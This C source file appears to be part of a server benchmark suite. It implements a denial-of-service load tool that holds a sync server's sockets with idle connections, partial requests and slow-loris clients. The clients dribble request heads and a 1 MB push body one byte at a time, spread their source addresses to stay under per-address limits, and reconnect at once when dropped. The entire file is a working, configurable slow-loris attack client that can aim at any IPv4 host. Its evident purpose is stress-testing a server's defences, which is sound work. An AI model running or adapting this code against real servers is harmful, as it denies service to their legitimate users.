/*
 * bench/flood.c - the attackers of case 9: idle connections and a slow-loris
 * client holding a server's sockets while honest devices sync.
 *
 *   - --idle N connections, spread over source addresses PREFIX.1, PREFIX.2,
 *     ... (--per-address on each, under the server's per-address limit, so
 *     that every one is really held).  Every other one sends a partial
 *     request line ("GET /v1/hea") and nothing more; the rest send nothing.
 *   - --loris N connections over addresses LORIS_PREFIX.1, ...  Half dribble
 *     a request head one byte every --every-ms (a head that never ends:
 *     one header line that grows); the other half send a push head with a
 *     valid token (--token, an enrolled device) and a Content-Length of
 *     1 MB, then dribble the body one byte every --every-ms.
 *
 * A connection the server closes is opened again at once, as a determined
 * attacker would, and counted (a second later if it lived under a second, so
 * that a server that refuses it is not spun on).  Once every connection is open the
 * program prints "holding N sockets"; every second it samples how many are open. On
 * SIGTERM or SIGINT (or after --max-seconds) it prints
 * {"idle":N,"loris":N,"held_min":..,"held_max":..,"held_end":..,
 *  "closed_by_server":..,"idle_closed":..,"loris_closed":..,"bytes_sent":..,
 *  "refused_connects":..,"seconds":T}
 * where held_min is the fewest open at any sample after "holding".
 *
 * Usage: mqb_flood --to HOST:PORT [--idle N] [--loris N] [--token TOKEN]
 *                  [--every-ms N] [--per-address N] [--prefix A.B.C]
 *                  [--loris-prefix A.B.C] [--max-seconds N]
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "util.h"

enum { MAX_SOCKETS = 20000 };

/* What a connection does. */
enum role { IDLE_SILENT, IDLE_PARTIAL, LORIS_HEAD, LORIS_BODY };

typedef struct sock {
    int fd;
    enum role role;
    char source[32]; /* its source address */
    size_t sent;     /* bytes of its script sent so far */
    double next_at;  /* when its next byte is due (loris) */
    double opened_at, reopen_at;
} sock;

static volatile sig_atomic_t stop;
static void on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

static struct {
    struct sockaddr_in to;
    char token[128];
    double every;
    sock *s;
    size_t n;
    unsigned long closed_idle, closed_loris, refused;
    unsigned long long bytes;
} g = {.every = 3.0};

/* The bytes a connection of role `r` sends whole when it opens. */
static void opening(enum role r, char *buf, size_t size)
{
    buf[0] = '\0';
    if (r == IDLE_PARTIAL)
        snprintf(buf, size, "GET /v1/hea");
    else if (r == LORIS_BODY)
        snprintf(buf, size,
                 "POST /v1/push HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                 "Authorization: Bearer %s\r\nContent-Type: application/json\r\n"
                 "Content-Length: 1000000\r\n\r\n",
                 g.token);
}

/* The byte a loris sends at position `i` of what it dribbles. */
static char dribble(enum role r, size_t i)
{
    static const char head[] = "GET /v1/session HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Pad: ";
    static const char body[] = "{\"batch\":\"loris\",\"site\":\"loris\",\"changes\":[";
    if (r == LORIS_HEAD)
        return i < sizeof head - 1 ? head[i] : 'a';
    return i < sizeof body - 1 ? body[i] : ' ';
}

/* Opens connection `k` (again); 0 on success. */
static int open_one(size_t k)
{
    sock *c = &g.s[k];
    struct sockaddr_in from;
    char buf[512];
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0)
        mqb_die("socket: %s", strerror(errno));
    memset(&from, 0, sizeof from);
    from.sin_family = AF_INET;
    if (inet_pton(AF_INET, c->source, &from.sin_addr) != 1)
        mqb_die("bad source address %s", c->source);
    if (bind(fd, (struct sockaddr *)&from, sizeof from) != 0)
        mqb_die("bind %s: %s", c->source, strerror(errno));
    if (connect(fd, (struct sockaddr *)&g.to, sizeof g.to) != 0) {
        close(fd);
        g.refused++;
        c->fd = -1;
        c->reopen_at = mqb_now() + 1.0;
        return -1;
    }
    fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
    opening(c->role, buf, sizeof buf);
    size_t len = strlen(buf);
    if (len > 0) {
        ssize_t w = send(fd, buf, len, MSG_NOSIGNAL);
        if (w > 0)
            g.bytes += (unsigned long long)w;
    }
    c->fd = fd;
    c->sent = 0;
    c->opened_at = mqb_now();
    /* spread the lorises' bytes over the interval */
    c->next_at = mqb_now() + g.every * (double)(k % 97) / 97.0;
    return 0;
}

static size_t held(void)
{
    size_t h = 0;
    for (size_t k = 0; k < g.n; k++)
        h += g.s[k].fd >= 0;
    return h;
}

/* Sets up `n` connections of roles `a` and `b` alternating, from addresses
 * PREFIX.1, PREFIX.2, ..., `per` on each. */
static void plan(size_t n, enum role a, enum role b, const char *prefix, size_t per)
{
    for (size_t i = 0; i < n; i++) {
        sock *c = &g.s[g.n++];
        c->fd = -1;
        c->role = i % 2 == 0 ? a : b;
        snprintf(c->source, sizeof c->source, "%s.%zu", prefix, 1 + i / per);
    }
}

int main(int argc, char **argv)
{
    const char *to = NULL, *prefix = "127.0.1", *loris_prefix = "127.0.2";
    long idle = 1000, loris = 200, per = 50, max_seconds = 0;

    mqb_set_program(argv[0]);
    for (int i = 1; i < argc; i += 2) {
        const char *a = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;
        if (v == NULL)
            mqb_die("%s needs a value", a);
        if (strcmp(a, "--to") == 0)
            to = v;
        else if (strcmp(a, "--idle") == 0)
            idle = atol(v);
        else if (strcmp(a, "--loris") == 0)
            loris = atol(v);
        else if (strcmp(a, "--token") == 0)
            snprintf(g.token, sizeof g.token, "%s", v);
        else if (strcmp(a, "--every-ms") == 0)
            g.every = atol(v) / 1000.0;
        else if (strcmp(a, "--per-address") == 0)
            per = atol(v);
        else if (strcmp(a, "--prefix") == 0)
            prefix = v;
        else if (strcmp(a, "--loris-prefix") == 0)
            loris_prefix = v;
        else if (strcmp(a, "--max-seconds") == 0)
            max_seconds = atol(v);
        else
            mqb_die("unknown option %s", a);
    }
    const char *colon = to != NULL ? strrchr(to, ':') : NULL;
    if (colon == NULL || idle < 0 || loris < 0 || idle + loris > MAX_SOCKETS || per < 1 ||
        per > 250 || g.every <= 0)
        mqb_die(
            "usage: mqb_flood --to HOST:PORT [--idle N] [--loris N] [--token T] "
            "[--every-ms N] [--per-address N] [--prefix A.B.C] [--loris-prefix A.B.C] "
            "[--max-seconds N]");
    char host[64];
    snprintf(host, sizeof host, "%.*s", (int)(colon - to), to);
    memset(&g.to, 0, sizeof g.to);
    g.to.sin_family = AF_INET;
    g.to.sin_port = htons((unsigned short)atoi(colon + 1));
    if (inet_pton(AF_INET, host, &g.to.sin_addr) != 1)
        mqb_die("bad address %s", host);

    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)(idle + loris + 64)) {
        rl.rlim_cur = rl.rlim_max < (rlim_t)(idle + loris + 64)
                          ? rl.rlim_max
                          : (rlim_t)(idle + loris + 64);
        setrlimit(RLIMIT_NOFILE, &rl);
    }
    signal(SIGTERM, on_signal);
    signal(SIGINT, on_signal);
    signal(SIGPIPE, SIG_IGN);

    g.s = calloc((size_t)(idle + loris) + 1, sizeof *g.s);
    struct pollfd *pf = calloc((size_t)(idle + loris) + 1, sizeof *pf);
    if (g.s == NULL || pf == NULL)
        mqb_die("out of memory");
    plan((size_t)idle, IDLE_SILENT, IDLE_PARTIAL, prefix, (size_t)per);
    plan((size_t)loris, LORIS_HEAD, LORIS_BODY, loris_prefix, (size_t)per);
    for (size_t k = 0; k < g.n; k++)
        open_one(k);
    size_t held_min = held(), held_max = held_min;
    printf("holding %zu sockets\n", held_min);
    fflush(stdout);

    double start = mqb_now(), next_sample = start + 1.0;
    char sink[4096];
    while (!stop && (max_seconds == 0 || mqb_now() - start < (double)max_seconds)) {
        size_t np = 0;
        for (size_t k = 0; k < g.n; k++) {
            if (g.s[k].fd >= 0) {
                pf[np].fd = g.s[k].fd;
                pf[np].events = POLLIN;
                pf[np].revents = 0;
                np++;
            }
        }
        poll(pf, np, 50);
        double now = mqb_now();
        for (size_t k = 0, p = 0; k < g.n; k++) {
            sock *c = &g.s[k];
            if (c->fd < 0) {
                if (now >= c->reopen_at)
                    open_one(k);
                continue;
            }
            int gone = 0;
            if (p < np && pf[p].fd == c->fd) {
                if (pf[p].revents & (POLLIN | POLLHUP | POLLERR)) {
                    ssize_t r = recv(c->fd, sink, sizeof sink, 0);
                    gone = r == 0 || (r < 0 && errno != EAGAIN && errno != EWOULDBLOCK);
                }
                p++;
            }
            if (!gone && (c->role == LORIS_HEAD || c->role == LORIS_BODY) &&
                now >= c->next_at) {
                char b = dribble(c->role, c->sent);
                ssize_t w = send(c->fd, &b, 1, MSG_NOSIGNAL);
                if (w == 1) {
                    c->sent++;
                    g.bytes++;
                } else if (w < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
                    gone = 1;
                }
                c->next_at = now + g.every;
            }
            if (gone) {
                close(c->fd);
                c->fd = -1;
                if (c->role == LORIS_HEAD || c->role == LORIS_BODY)
                    g.closed_loris++;
                else
                    g.closed_idle++;
                /* again at once, unless the server would not hold it */
                c->reopen_at = now - c->opened_at < 1.0 ? now + 1.0 : now;
            }
        }
        if (now >= next_sample) {
            size_t h = held();
            held_min = h < held_min ? h : held_min;
            held_max = h > held_max ? h : held_max;
            next_sample = now + 1.0;
        }
    }
    size_t h = held();
    printf(
        "{\"idle\":%ld,\"loris\":%ld,\"held_min\":%zu,\"held_max\":%zu,\"held_end\":%zu,"
        "\"closed_by_server\":%lu,\"idle_closed\":%lu,\"loris_closed\":%lu,"
        "\"bytes_sent\":%llu,\"refused_connects\":%lu,\"seconds\":%.1f}\n",
        idle, loris, held_min, held_max, h, g.closed_idle + g.closed_loris, g.closed_idle,
        g.closed_loris, g.bytes, g.refused, mqb_now() - start);
    for (size_t k = 0; k < g.n; k++)
        if (g.s[k].fd >= 0)
            close(g.s[k].fd);
    free(g.s);
    free(pf);
    return 0;
}
